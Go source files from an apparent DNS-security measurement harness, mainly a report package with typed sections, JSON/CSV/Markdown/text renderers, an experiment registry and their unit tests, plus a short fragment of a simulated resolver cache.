func JSON(r *Report) ([]byte, error) {
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(b, '\n'), nil
}

// Decode parses JSON produced by JSON back into a Report, using each
// section's column kinds to recover the typed cells.
func Decode(data []byte) (*Report, error) {
	var r Report
	if err := json.Unmarshal(data, &r); err != nil {
		return nil, fmt.Errorf("report: decode: %w", err)
	}
	return &r, nil
}

// sectionJSON mirrors Section with raw rows, so UnmarshalJSON can
// coerce each cell under its column's kind.
type sectionJSON struct {
	Name    string              `json:"name,omitempty"`
	Title   string              `json:"title,omitempty"`
	Layout  Layout              `json:"layout,omitempty"`
	Columns []Column            `json:"columns"`
	Rows    [][]json.RawMessage `json:"rows"`
	Bars    *BarSpec            `json:"bars,omitempty"`
}

// UnmarshalJSON decodes a section, typing every cell by its column
// kind: counts to int64, samples to float64, ratios to stats.Counter,
// absent percentage-point deltas to nil.
func (s *Section) UnmarshalJSON(data []byte) error {
	var raw sectionJSON
	if err := json.Unmarshal(data, &raw); err != nil {
		return err
	}
	s.Name, s.Title, s.Layout, s.Columns, s.Bars = raw.Name, raw.Title, raw.Layout, raw.Columns, raw.Bars
	// Plot layouts index fixed columns (bars: group/n/x/value, kv:
	// group/label/value); reject sections too narrow for their layout
	// here, so a hand-edited or third-party JSON artifact fails to
	// decode instead of panicking at render time.
	if min := minLayoutColumns(s.Layout); len(s.Columns) < min {
		return fmt.Errorf("report: section %q has %d columns; layout %q needs at least %d",
			raw.Name, len(s.Columns), s.Layout, min)
	}
	s.Rows = make([][]any, len(raw.Rows))
	for i, rawRow := range raw.Rows {
		if len(rawRow) != len(raw.Columns) {
			return fmt.Errorf("report: section %q row %d has %d cells for %d columns",
				raw.Name, i, len(rawRow), len(raw.Columns))
		}
		row := make([]any, len(rawRow))
		for j, cell := range rawRow {
			v, err := decodeCell(raw.Columns[j].Kind, cell)
			if err != nil {
				return fmt.Errorf("report: section %q row %d column %q: %w",
					raw.Name, i, raw.Columns[j].Name, err)
			}
			row[j] = v
		}
		s.Rows[i] = row
	}
	return nil
}

// minLayoutColumns returns the column arity a layout's text renderer
// indexes unconditionally.
func minLayoutColumns(l Layout) int {
	switch l {
	case LayoutBars:
		return 4
	case LayoutKV:
		return 3
	default:
		return 0
	}
}

// decodeCell parses one raw JSON cell under a column kind.
func decodeCell(kind Kind, cell json.RawMessage) (any, error) {
	switch kind {
	case KindInt:
		var v int64
		err := json.Unmarshal(cell, &v)
		return v, err
	case KindFloat, KindPct1, KindRound, KindSeconds:
		var v float64
		err := json.Unmarshal(cell, &v)
		return v, err
	case KindRatio, KindRatioCI:
		var v stats.Counter
		err := json.Unmarshal(cell, &v)
		return v, err
	case KindPP:
		if string(cell) == "null" {
			return nil, nil
		}
		var v float64
		err := json.Unmarshal(cell, &v)
		return v, err
	default:
		var v string
		err := json.Unmarshal(cell, &v)
		return v, err
	}
}
