package report

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"sync"
)

// Progress reports one shard completion inside a running experiment.
// It is the event type behind Spec.Progress and measure.Config's
// progress channel (measure aliases it), so every experiment reports
// through one shape.
type Progress struct {
	// Dataset labels the population being scanned.
	Dataset string
	// DoneShards/TotalShards count shard completions.
	DoneShards  int
	TotalShards int
	// Items is the sampled population size of the dataset.
	Items int
}

// Spec is the uniform run configuration every registered experiment
// receives: the engine execution knobs plus the campaign sweep
// dimensions (ignored by experiments without those axes). The zero
// value means full paper-size populations, seed 0, default sharding,
// GOMAXPROCS workers, unfiltered sweeps.
//
// Determinism contract (inherited from the engine): SampleCap, Seed,
// ShardSize and the sweep dimensions select the result; Parallelism
// and Progress only schedule and observe it. Two runs with equal
// selecting fields produce byte-identical Reports under every
// renderer, for any worker count.
type Spec struct {
	// SampleCap bounds the population sampled per dataset; <= 0 means
	// the full paper-size populations.
	SampleCap int
	// Seed is the base population seed.
	Seed int64
	// Parallelism is the worker count; 0 means GOMAXPROCS.
	Parallelism int
	// ShardSize is the population items per simulation shard; 0 means
	// the engine default.
	ShardSize int
	// Progress, when non-nil, observes shard completions.
	Progress func(Progress)
	// SadPorts bounds the resolver ephemeral-port span the end-to-end
	// SadDNS runs scan (table6, samehijack); 0 means each experiment's
	// default.
	SadPorts int

	// Campaign sweep dimensions (registry keys; empty means the full
	// axis) and knobs — see the campaign package.
	Methods     []string
	Victims     []string
	Profiles    []string
	Defenses    []string
	DefenseSets []string
	ChainDepths []string
	Placements  []string
	Transports  []string
	// Deployments selects the campaign's deployment-dataset axis.
	// Unlike the other dimensions, empty means the canonical
	// (unsampled) dataset ONLY — sampled trial populations are an
	// explicit opt-in.
	Deployments []string
	// Trials is the campaign's per-cell sample size; 0 means the
	// campaign default.
	Trials int
	// LatticeRank bounds the campaign's defense-stacking axis; 0 means
	// the default lattice.
	LatticeRank int
	// Downgrade runs the campaign under active transport-downgrade
	// pressure (opportunistic hops stripped to plaintext UDP before
	// each trial's attack).
	Downgrade bool
}

// Experiment is one registered experiment: a canonical name, a
// one-line description, and the builder that turns a Spec into a
// structured Report. Builders must honour ctx cancellation (the
// engine aborts between shards) and return every failure — the
// registry never swallows errors.
type Experiment struct {
	Name  string
	Title string
	Run   func(ctx context.Context, spec Spec) (*Report, error)
}

var (
	regMu    sync.RWMutex
	registry []Experiment
	byName   = map[string]int{}
)

// Register adds an experiment under its canonical name. Experiment
// packages call it from init, so importing the facade assembles the
// full registry. Duplicate or empty names are programming errors and
// panic.
func Register(e Experiment) {
	if e.Name == "" || e.Run == nil {
		panic("report: Register needs a name and a Run func")
	}
	regMu.Lock()
	defer regMu.Unlock()
	if _, dup := byName[e.Name]; dup {
		panic(fmt.Sprintf("report: experiment %q registered twice", e.Name))
	}
	byName[e.Name] = len(registry)
	registry = append(registry, e)
}

// List returns every registered experiment in registration order —
// the canonical artifact order (tables, then figures, then studies,
// then the campaign).
func List() []Experiment {
	regMu.RLock()
	defer regMu.RUnlock()
	return append([]Experiment(nil), registry...)
}

// Names returns the registered experiment names in registration order.
func Names() []string {
	regMu.RLock()
	defer regMu.RUnlock()
	names := make([]string, len(registry))
	for i, e := range registry {
		names[i] = e.Name
	}
	return names
}

// Get returns the named experiment.
func Get(name string) (Experiment, bool) {
	regMu.RLock()
	defer regMu.RUnlock()
	i, ok := byName[name]
	if !ok {
		return Experiment{}, false
	}
	return registry[i], true
}

// Run dispatches the named experiment under the spec. Unknown names
// fail listing the valid registry keys (sorted, so the message is
// stable); experiment failures — including ctx cancellation mid-sweep
// — propagate to the caller.
func Run(ctx context.Context, name string, spec Spec) (*Report, error) {
	e, ok := Get(name)
	if !ok {
		valid := Names()
		sort.Strings(valid)
		return nil, fmt.Errorf("report: unknown experiment %q (valid: %s)",
			name, strings.Join(valid, ", "))
	}
	rep, err := e.Run(ctx, spec)
	if err != nil {
		return nil, fmt.Errorf("report: experiment %q: %w", name, err)
	}
	if rep.Name == "" {
		rep.Name = e.Name
	}
	if rep.Title == "" {
		rep.Title = e.Title
	}
	return rep, nil
}

// BaseParams records the execution knobs shared by every experiment
// on a report, in a stable order. Builders call it before adding
// experiment-specific params.
func BaseParams(r *Report, spec Spec) *Report {
	r.AddParam("sample_cap", spec.SampleCap)
	r.AddParam("seed", spec.Seed)
	if spec.ShardSize != 0 {
		r.AddParam("shard_size", spec.ShardSize)
	}
	return r
}
