package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
)

// CSV renders the report as RFC-4180 CSV (encoding/csv handles the
// quoting of commas, quotes and newlines). Every section becomes one
// block — a "# name: title" comment line, the header row, the cell
// rows — with a blank line between blocks. Cells carry the same
// formatted values as the text artifact, so spreadsheet consumers see
// the numbers the paper tables print.
func CSV(r *Report) ([]byte, error) {
	var buf bytes.Buffer
	for i, s := range r.Sections {
		if i > 0 {
			buf.WriteByte('\n')
		}
		heading := s.Name
		if s.Title != "" {
			if heading != "" {
				heading += ": "
			}
			heading += s.Title
		}
		if heading != "" {
			fmt.Fprintf(&buf, "# %s\n", heading)
		}
		w := csv.NewWriter(&buf)
		if err := w.Write(s.HeaderNames()); err != nil {
			return nil, err
		}
		if err := w.WriteAll(s.CellStrings()); err != nil {
			return nil, err
		}
		w.Flush()
		if err := w.Error(); err != nil {
			return nil, err
		}
	}
	return buf.Bytes(), nil
}

// Markdown renders the report as a GitHub-flavored Markdown document:
// title heading, parameter list, one pipe table per section, notes as
// a trailing bullet list. Pipe and newline characters inside cells
// are escaped so arbitrary cell content cannot break the table grid.
func Markdown(r *Report) []byte {
	var sb strings.Builder
	title := r.Title
	if title == "" {
		title = r.Name
	}
	fmt.Fprintf(&sb, "# %s\n", title)
	if len(r.Params) > 0 {
		sb.WriteByte('\n')
		for _, p := range r.Params {
			fmt.Fprintf(&sb, "- `%s` = `%s`\n", p.Name, p.Value)
		}
	}
	for _, s := range r.Sections {
		sb.WriteByte('\n')
		if s.Title != "" {
			fmt.Fprintf(&sb, "## %s\n\n", s.Title)
		}
		writeMDRow(&sb, s.HeaderNames())
		cells := make([]string, len(s.Columns))
		for i := range cells {
			cells[i] = "---"
		}
		writeMDRow(&sb, cells)
		for _, row := range s.CellStrings() {
			writeMDRow(&sb, row)
		}
	}
	if len(r.Notes) > 0 {
		sb.WriteByte('\n')
		for _, n := range r.Notes {
			fmt.Fprintf(&sb, "> %s\n", mdEscape(n))
		}
	}
	return []byte(sb.String())
}

func writeMDRow(sb *strings.Builder, cells []string) {
	sb.WriteByte('|')
	for _, c := range cells {
		sb.WriteByte(' ')
		sb.WriteString(mdEscape(c))
		sb.WriteString(" |")
	}
	sb.WriteByte('\n')
}

// mdEscape keeps a cell on one table row: pipes are escaped, newlines
// become <br>.
func mdEscape(s string) string {
	s = strings.ReplaceAll(s, "|", `\|`)
	s = strings.ReplaceAll(s, "\r\n", "<br>")
	s = strings.ReplaceAll(s, "\n", "<br>")
	return s
}

// Render dispatches a format name to its renderer. Valid formats are
// "text", "json", "csv" and "md" (or "markdown").
func Render(r *Report, format string) ([]byte, error) {
	switch strings.ToLower(strings.TrimSpace(format)) {
	case "", "text":
		return []byte(Text(r)), nil
	case "json":
		return JSON(r)
	case "csv":
		return CSV(r)
	case "md", "markdown":
		return Markdown(r), nil
	default:
		return nil, fmt.Errorf("report: unknown format %q (valid: text, json, csv, md)", format)
	}
}
