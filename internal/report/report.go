// Package report is the structured-result layer of the measurement
// harness: every experiment — the paper's tables and figures, and the
// campaign matrix with its aggregate views — BUILDS a Report (name,
// parameters, sections of typed columns and rows, notes) instead of
// formatting text, and pluggable renderers turn that one value into
// the artifact a consumer wants:
//
//   - Text — byte-identical to the historical hand-formatted output
//     (the testdata/golden/*.txt contract);
//   - JSON — machine-readable, lossless: Decode(JSON(r)) re-renders
//     to the same text bytes;
//   - CSV and Markdown — spreadsheet- and doc-friendly projections.
//
// The package also hosts the experiment registry (see registry.go):
// experiment packages self-register their builders under canonical
// names ("table3", "fig4", "campaign", ...), and callers dispatch by
// name with uniform (*Report, error) returns.
package report

import (
	"fmt"

	"crosslayer/internal/stats"
)

// Kind types one column of a section. The kind selects both the JSON
// decoding of the column's cells and their text formatting, so a
// Report round-trips losslessly through every renderer.
type Kind string

const (
	// KindString cells are opaque strings, rendered as-is.
	KindString Kind = "string"
	// KindInt cells are integer counts (int64).
	KindInt Kind = "int"
	// KindFloat cells are raw float64 samples (figure plot points).
	KindFloat Kind = "float"
	// KindRatio cells are hits-over-population counters
	// (stats.Counter), rendered as whole percents ("74%", "n/a").
	KindRatio Kind = "ratio"
	// KindRatioCI cells are hits-over-population counters
	// (stats.Counter) rendered with the half-width of their 95% Wilson
	// confidence interval ("67%±46", "n/a") — the deploy section's
	// population-rate format.
	KindRatioCI Kind = "ratio-ci"
	// KindPct1 cells are fractions in [0,1], rendered with one
	// decimal ("13.5%").
	KindPct1 Kind = "pct1"
	// KindRound cells are float64 values rendered without decimals
	// (the campaign cost percentiles).
	KindRound Kind = "round"
	// KindSeconds cells are virtual-time seconds, rendered with
	// millisecond resolution ("0.132s").
	KindSeconds Kind = "seconds"
	// KindPP cells are percentage-point deltas (float64, rendered
	// "+25pp") or nil for "no measurement" ("n/a").
	KindPP Kind = "pp"
)

// Column is one typed column of a section.
type Column struct {
	Name string `json:"name"`
	Kind Kind   `json:"kind"`
}

// Layout selects how the Text renderer draws a section. Every layout
// shares the same columns/rows data model, so the JSON/CSV/Markdown
// projections are uniform; only the text form differs.
type Layout string

const (
	// LayoutTable draws the aligned pipe-separated table of
	// stats.Table — the format of every regenerated paper table.
	LayoutTable Layout = "table"
	// LayoutBars draws grouped ASCII bar charts (the Figure 3/4 step
	// plots). Columns are fixed: group (string), n (int), x (float),
	// value (float); consecutive rows with the same group share one
	// "label (n=N)" header. Bars carries the geometry.
	LayoutBars Layout = "bars"
	// LayoutKV draws "label: value" lines under "== group ==" headers
	// (the Figure 5 Venn partitions). Columns are fixed: group
	// (string), label (string), value (int).
	LayoutKV Layout = "kv"
)

// BarSpec is the geometry of a LayoutBars section: a value v draws
// int(v*Scale+0.5) '#' marks into a Width-wide field, and each x tick
// renders as Prefix + Sprintf(XFormat, x).
type BarSpec struct {
	Scale   int    `json:"scale"`
	Width   int    `json:"width"`
	Prefix  string `json:"prefix,omitempty"`
	XFormat string `json:"x_format"`
}

// Section is one table or plot of a Report.
type Section struct {
	// Name is the section's stable identifier within the report
	// ("matrix", "summary", ...); single-section reports may leave it
	// empty.
	Name string `json:"name,omitempty"`
	// Title is the rendered heading ("Table 3: Vulnerable resolvers");
	// empty means no heading line.
	Title string `json:"title,omitempty"`
	// Layout selects the text form; empty means LayoutTable.
	Layout Layout `json:"layout,omitempty"`
	// Columns type the cells of every row.
	Columns []Column `json:"columns"`
	// Rows hold the cells: one value per column, of the Go type the
	// column's Kind dictates (string, int64, float64, stats.Counter,
	// or nil for an absent KindPP cell).
	Rows [][]any `json:"rows"`
	// Bars carries the bar-chart geometry of a LayoutBars section.
	Bars *BarSpec `json:"bars,omitempty"`
}

// Param is one name/value parameter of a Report: the execution knobs
// that selected the result (sample cap, seed, filters, ...).
type Param struct {
	Name  string `json:"name"`
	Value string `json:"value"`
}

// Report is the structured result of one experiment run.
type Report struct {
	// Name is the experiment's canonical registry key ("table3").
	Name string `json:"name"`
	// Title is the experiment's one-line description.
	Title string `json:"title,omitempty"`
	// Params record the execution knobs the result depends on.
	// Scheduling knobs (parallelism, progress) are deliberately
	// absent: they never change a Report.
	Params []Param `json:"params,omitempty"`
	// Sections hold the tables and plots, in render order.
	Sections []*Section `json:"sections"`
	// Notes are free-form observations (the Table 6 same-prefix rate,
	// the forwarder-study paper comparisons). The Text renderer skips
	// them — they are metadata, not artifact bytes.
	Notes []string `json:"notes,omitempty"`
}

// New starts a Report.
func New(name, title string) *Report { return &Report{Name: name, Title: title} }

// AddParam appends an execution parameter.
func (r *Report) AddParam(name string, value any) *Report {
	r.Params = append(r.Params, Param{Name: name, Value: fmt.Sprint(value)})
	return r
}

// AddNote appends a free-form note.
func (r *Report) AddNote(format string, args ...any) *Report {
	r.Notes = append(r.Notes, fmt.Sprintf(format, args...))
	return r
}

// AddSection appends a section and returns it for row filling.
func (r *Report) AddSection(s *Section) *Section {
	r.Sections = append(r.Sections, s)
	return s
}

// Section returns the named section, or nil.
func (r *Report) Section(name string) *Section {
	for _, s := range r.Sections {
		if s.Name == name {
			return s
		}
	}
	return nil
}

// String renders the report as text; Report satisfies the facade's
// TableResult contract.
func (r *Report) String() string { return Text(r) }

// Table starts a LayoutTable section with the given typed columns.
func Table(name, title string, cols ...Column) *Section {
	return &Section{Name: name, Title: title, Layout: LayoutTable, Columns: cols}
}

// Col builds a typed column.
func Col(name string, kind Kind) Column { return Column{Name: name, Kind: kind} }

// StrCols builds a run of KindString columns.
func StrCols(names ...string) []Column {
	cols := make([]Column, len(names))
	for i, n := range names {
		cols[i] = Col(n, KindString)
	}
	return cols
}

// Add appends a row, normalising integer cells to int64 so a Report
// compares equal to its JSON round-trip.
func (s *Section) Add(cells ...any) *Section {
	row := make([]any, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case int:
			row[i] = int64(v)
		case uint16:
			row[i] = int64(v)
		case uint32:
			row[i] = int64(v)
		default:
			row[i] = c
		}
	}
	s.Rows = append(s.Rows, row)
	return s
}

// HeaderNames returns the column names in order.
func (s *Section) HeaderNames() []string {
	names := make([]string, len(s.Columns))
	for i, c := range s.Columns {
		names[i] = c.Name
	}
	return names
}

// CellStrings renders every cell through its column's text format —
// the row content of the text table, and of the CSV/Markdown
// projections.
func (s *Section) CellStrings() [][]string {
	out := make([][]string, len(s.Rows))
	for i, row := range s.Rows {
		cells := make([]string, len(row))
		for j, v := range row {
			kind := KindString
			if j < len(s.Columns) {
				kind = s.Columns[j].Kind
			}
			cells[j] = FormatCell(kind, v)
		}
		out[i] = cells
	}
	return out
}

// FormatCell renders one cell value under its column kind, exactly as
// the historical hand-formatted tables did.
func FormatCell(kind Kind, v any) string {
	if v == nil {
		if kind == KindPP {
			return "n/a"
		}
		return ""
	}
	switch kind {
	case KindString:
		if s, ok := v.(string); ok {
			return s
		}
	case KindRatio:
		if c, ok := v.(stats.Counter); ok {
			return c.Cell()
		}
	case KindRatioCI:
		if c, ok := v.(stats.Counter); ok {
			return c.CellCI()
		}
	case KindPct1:
		if f, ok := v.(float64); ok {
			return stats.Pct1(f)
		}
	case KindRound:
		if f, ok := v.(float64); ok {
			return fmt.Sprintf("%.0f", f)
		}
	case KindSeconds:
		if f, ok := v.(float64); ok {
			return fmt.Sprintf("%.3fs", f)
		}
	case KindPP:
		if f, ok := v.(float64); ok {
			return fmt.Sprintf("%+.0fpp", f)
		}
	}
	return fmt.Sprint(v)
}
