package report

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"crosslayer/internal/stats"
)

// sampleReport exercises every cell kind and layout the renderers
// support, including the CSV/Markdown escaping hazards: commas,
// quotes, pipes, newlines and empty cells.
func sampleReport() *Report {
	r := New("sample", "Sample: every cell kind")
	r.AddParam("seed", 7)
	r.AddNote("a note with a | pipe")
	tbl := r.AddSection(Table("cells", "Kinds",
		Col("name", KindString),
		Col("count", KindInt),
		Col("rate", KindRatio),
		Col("frac", KindPct1),
		Col("cost", KindRound),
		Col("time", KindSeconds),
		Col("delta", KindPP),
		Col("ci", KindRatioCI),
	))
	tbl.Add("plain", 3, stats.Counter{Hits: 2, Total: 3}, 0.125, 17.4, 0.0421, 25.0, stats.Counter{Hits: 2, Total: 3})
	tbl.Add("comma, quote \" and |pipe|", 0, stats.Counter{}, 0.0, 0.0, 0.0, nil, stats.Counter{})
	tbl.Add("", -1, stats.Counter{Hits: 1, Total: 1}, 1.0, 2.6, 12.3456, -12.5, stats.Counter{Hits: 1, Total: 1})

	bars := r.AddSection(&Section{
		Name: "plot", Title: "A plot", Layout: LayoutBars,
		Columns: []Column{Col("curve", KindString), Col("n", KindInt),
			Col("x", KindFloat), Col("value", KindFloat)},
		Bars: &BarSpec{Scale: 100, Width: 50, Prefix: "/", XFormat: "%-2.0f"},
	})
	bars.Add("curve A", 10, 11.0, 0.25)
	bars.Add("curve A", 10, 12.0, 0.031)
	bars.Add("curve B", 4, 11.0, 1.0)

	kv := r.AddSection(&Section{
		Name: "venn", Layout: LayoutKV,
		Columns: []Column{Col("group", KindString), Col("label", KindString), Col("value", KindInt)},
	})
	kv.Add("Part a", "X only", 3)
	kv.Add("Part a", "union", 9)
	kv.Add("Part b", "X only", 0)
	return r
}

func TestTextLayouts(t *testing.T) {
	got := Text(sampleReport())
	for _, want := range []string{
		"== Kinds ==",
		"name", "count | rate | frac", // aligned header fragments
		"67%",    // 2/3 ratio
		"12.5%",  // pct1
		"17",     // round
		"0.042s", // seconds
		"+25pp",  // pp
		"n/a",    // zero-total ratio AND nil pp
		"-12pp",  // negative pp, %+.0f (round half to even)
		"67%±46", // ratio-ci: Wilson 95% half-width
		"== A plot ==",
		"curve A (n=10)",
		"  /11 |" + strings.Repeat("#", 25), // scale 100, prefix /
		"curve B (n=4)",
		"== Part a ==",
		"X only: 3",
		"union: 9",
		"== Part b ==",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("text missing %q:\n%s", want, got)
		}
	}
	// Notes and params are metadata: the text artifact must not carry
	// them (the golden byte-compat contract).
	if strings.Contains(got, "note with") || strings.Contains(got, "seed") {
		t.Fatalf("text leaked params/notes:\n%s", got)
	}
}

// TestTableTextMatchesStatsTable pins the byte-compat contract at the
// unit level: a LayoutTable section renders exactly what a
// hand-assembled stats.Table renders.
func TestTableTextMatchesStatsTable(t *testing.T) {
	s := Table("", "Table X: demo", Col("A", KindString), Col("Long header B", KindString))
	s.Add("wide cell here", "x")
	s.Add("y", "z")
	want := (&stats.Table{Title: "Table X: demo",
		Header: []string{"A", "Long header B"},
		Rows:   [][]string{{"wide cell here", "x"}, {"y", "z"}}}).String()
	if got := s.Text(); got != want {
		t.Fatalf("section text diverged from stats.Table:\n--- got\n%s--- want\n%s", got, want)
	}
}

// TestJSONRoundTripTextIdentical is the renderer contract of the
// issue: encode -> decode -> re-render text is byte-identical.
func TestJSONRoundTripTextIdentical(t *testing.T) {
	r := sampleReport()
	data, err := JSON(r)
	if err != nil {
		t.Fatal(err)
	}
	back, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := Text(back), Text(r); got != want {
		t.Fatalf("round-trip changed text:\n--- got\n%s\n--- want\n%s", got, want)
	}
	// And the re-encoded JSON is byte-identical too (stable field
	// order, lossless cells).
	data2, err := JSON(back)
	if err != nil {
		t.Fatal(err)
	}
	if string(data2) != string(data) {
		t.Fatalf("re-encoded JSON drifted:\n--- got\n%s\n--- want\n%s", data2, data)
	}
}

func TestDecodeRejectsRaggedRows(t *testing.T) {
	bad := []byte(`{"name":"x","sections":[{"columns":[{"name":"a","kind":"int"}],"rows":[[1,2]]}]}`)
	if _, err := Decode(bad); err == nil {
		t.Fatal("ragged row accepted")
	}
	if _, err := Decode([]byte("{")); err == nil {
		t.Fatal("truncated JSON accepted")
	}
}

// TestDecodeRejectsNarrowPlotLayouts: bars/kv sections index fixed
// columns, so a decoded section too narrow for its layout must fail
// at Decode, not panic at render.
func TestDecodeRejectsNarrowPlotLayouts(t *testing.T) {
	bars := []byte(`{"name":"x","sections":[{"layout":"bars","columns":[{"name":"a","kind":"string"}],"rows":[["g"]]}]}`)
	if _, err := Decode(bars); err == nil {
		t.Fatal("single-column bars section accepted")
	}
	kv := []byte(`{"name":"x","sections":[{"layout":"kv","columns":[{"name":"a","kind":"string"},{"name":"b","kind":"string"}],"rows":[["g","l"]]}]}`)
	if _, err := Decode(kv); err == nil {
		t.Fatal("two-column kv section accepted")
	}
}

// TestCSVEscaping: commas, quotes and empty cells survive the CSV
// projection per RFC 4180.
func TestCSVEscaping(t *testing.T) {
	out, err := CSV(sampleReport())
	if err != nil {
		t.Fatal(err)
	}
	csv := string(out)
	if !strings.Contains(csv, `"comma, quote "" and |pipe|"`) {
		t.Fatalf("comma/quote cell not escaped:\n%s", csv)
	}
	if !strings.Contains(csv, "# cells: Kinds\n") {
		t.Fatalf("section heading missing:\n%s", csv)
	}
	// The empty-name cell renders as an empty field, not a dropped one.
	if !strings.Contains(csv, "\n,-1,100%") {
		t.Fatalf("empty leading cell lost:\n%s", csv)
	}
	// Sections are blank-line separated.
	if !strings.Contains(csv, "\n\n# plot: A plot\n") {
		t.Fatalf("section separation missing:\n%s", csv)
	}
}

// TestMarkdownEscaping: pipes and newlines inside cells cannot break
// the table grid.
func TestMarkdownEscaping(t *testing.T) {
	r := New("md", "MD demo")
	s := r.AddSection(Table("t", "T", Col("a", KindString), Col("b", KindString)))
	s.Add("has|pipe", "line\nbreak")
	s.Add("", "plain")
	r.AddNote("note with |pipe")
	md := string(Markdown(r))
	for _, want := range []string{
		"# MD demo",
		"## T",
		"| a | b |",
		"| --- | --- |",
		`| has\|pipe | line<br>break |`,
		"|  | plain |",
		`> note with \|pipe`,
	} {
		if !strings.Contains(md, want) {
			t.Errorf("markdown missing %q:\n%s", want, md)
		}
	}
}

func TestRenderDispatch(t *testing.T) {
	r := sampleReport()
	for _, f := range []string{"text", "json", "csv", "md", "markdown", ""} {
		if out, err := Render(r, f); err != nil || len(out) == 0 {
			t.Errorf("format %q: %v (%d bytes)", f, err, len(out))
		}
	}
	if _, err := Render(r, "xml"); err == nil || !strings.Contains(err.Error(), "valid:") {
		t.Fatalf("unknown format error %v must list valid formats", err)
	}
}

func TestRegistryDispatch(t *testing.T) {
	Register(Experiment{Name: "test-reg-a", Title: "A", Run: func(ctx context.Context, spec Spec) (*Report, error) {
		r := New("", "")
		r.AddSection(Table("", "A table", Col("seed", KindInt))).Add(spec.Seed)
		return r, nil
	}})
	Register(Experiment{Name: "test-reg-err", Title: "E", Run: func(context.Context, Spec) (*Report, error) {
		return nil, errors.New("boom")
	}})

	rep, err := Run(context.Background(), "test-reg-a", Spec{Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	// The registry back-fills name and title from the registration.
	if rep.Name != "test-reg-a" || rep.Title != "A" {
		t.Fatalf("name/title not filled: %q %q", rep.Name, rep.Title)
	}
	if !strings.Contains(rep.String(), "9") {
		t.Fatal("spec did not reach the experiment")
	}

	// Failures propagate — never swallowed.
	if _, err := Run(context.Background(), "test-reg-err", Spec{}); err == nil || !strings.Contains(err.Error(), "boom") {
		t.Fatalf("experiment error lost: %v", err)
	}

	// Unknown names fail listing the valid registry keys.
	_, err = Run(context.Background(), "test-reg-nope", Spec{})
	if err == nil || !strings.Contains(err.Error(), "test-reg-nope") || !strings.Contains(err.Error(), "valid:") ||
		!strings.Contains(err.Error(), "test-reg-a") {
		t.Fatalf("unknown-name error %v must list valid keys", err)
	}

	// Listing covers the registrations, in order, and Get finds them.
	names := Names()
	ia, ie := -1, -1
	for i, n := range names {
		switch n {
		case "test-reg-a":
			ia = i
		case "test-reg-err":
			ie = i
		}
	}
	if ia < 0 || ie < 0 || ia > ie {
		t.Fatalf("registration order lost: %v", names)
	}
	if _, ok := Get("test-reg-a"); !ok {
		t.Fatal("Get missed a registered experiment")
	}

	// Duplicate registration is a programming error.
	defer func() {
		if recover() == nil {
			t.Fatal("duplicate registration did not panic")
		}
	}()
	Register(Experiment{Name: "test-reg-a", Run: func(context.Context, Spec) (*Report, error) { return nil, nil }})
}

func TestBaseParams(t *testing.T) {
	r := New("x", "")
	BaseParams(r, Spec{SampleCap: 50, Seed: 1, ShardSize: 16})
	if len(r.Params) != 3 {
		t.Fatalf("params %v", r.Params)
	}
	if fmt.Sprint(r.Params) != "[{sample_cap 50} {seed 1} {shard_size 16}]" {
		t.Fatalf("params %v", r.Params)
	}
	r2 := New("y", "")
	BaseParams(r2, Spec{SampleCap: 50, Seed: 1})
	if len(r2.Params) != 2 {
		t.Fatalf("zero shard size must not be recorded: %v", r2.Params)
	}
}
