package report

import (
	"fmt"
	"strings"

	"crosslayer/internal/stats"
)

// Text renders the report in the historical hand-formatted form: the
// byte-for-byte artifact the testdata/golden/*.txt suite pins.
// Sections are separated by one blank line (each section already ends
// with a newline); params and notes are metadata and render nowhere
// here — the JSON/Markdown projections carry them.
func Text(r *Report) string {
	parts := make([]string, len(r.Sections))
	for i, s := range r.Sections {
		parts[i] = s.Text()
	}
	return strings.Join(parts, "\n")
}

// Text renders one section under its layout.
func (s *Section) Text() string {
	switch s.Layout {
	case LayoutBars:
		return s.barsText()
	case LayoutKV:
		return s.kvText()
	default:
		return s.tableText()
	}
}

// tableText delegates to stats.Table so the aligned pipe format stays
// the single source of truth.
func (s *Section) tableText() string {
	tbl := &stats.Table{Title: s.Title, Header: s.HeaderNames(), Rows: s.CellStrings()}
	return tbl.String()
}

// barsText draws the Figure 3/4 grouped step plots: a "label (n=N)"
// header per group, then one bar line per x tick.
func (s *Section) barsText() string {
	geom := s.Bars
	if geom == nil {
		geom = &BarSpec{Scale: 40, Width: 40, XFormat: "%6.0f"}
	}
	var sb strings.Builder
	if s.Title != "" {
		fmt.Fprintf(&sb, "== %s ==\n", s.Title)
	}
	prevGroup := ""
	started := false
	for _, row := range s.Rows {
		group, _ := row[0].(string)
		n, _ := row[1].(int64)
		x, _ := row[2].(float64)
		v, _ := row[3].(float64)
		if !started || group != prevGroup {
			fmt.Fprintf(&sb, "%s (n=%d)\n", group, n)
			prevGroup, started = group, true
		}
		bar := strings.Repeat("#", int(v*float64(geom.Scale)+0.5))
		fmt.Fprintf(&sb, "  %s%s |%-*s| %5.1f%%\n",
			geom.Prefix, fmt.Sprintf(geom.XFormat, x), geom.Width, bar, v*100)
	}
	return sb.String()
}

// kvText draws "label: value" lines under "== group ==" headers (the
// Figure 5 Venn partitions).
func (s *Section) kvText() string {
	var sb strings.Builder
	if s.Title != "" {
		fmt.Fprintf(&sb, "== %s ==\n", s.Title)
	}
	prevGroup := ""
	started := false
	for _, row := range s.Rows {
		group, _ := row[0].(string)
		if !started || group != prevGroup {
			fmt.Fprintf(&sb, "== %s ==\n", group)
			prevGroup, started = group, true
		}
		fmt.Fprintf(&sb, "%s: %s\n", row[1], FormatCell(KindInt, row[2]))
	}
	return sb.String()
}
