package resolver

import (
	"time"

	"crosslayer/internal/dnswire"
)

// cacheKey indexes one cached RRset.
type cacheKey struct {
	name string
	typ  dnswire.Type
}

type cacheEntry struct {
	rrs      []*dnswire.RR
	expires  time.Duration
	negative bool
	// poisoned marks entries injected by verified-but-spoofed
	// responses; it is bookkeeping for the experiments only — the
	// resolver itself cannot tell (that is the point of the attack).
	// It is set by test/measurement hooks, never by the resolver.
	poisoned bool
}

// Cache is a TTL-driven DNS cache on virtual time.
type Cache struct {
	entries map[cacheKey]*cacheEntry
	now     func() time.Duration
	// Hits/Misses/Inserts are activity counters.
	Hits, Misses, Inserts uint64
}

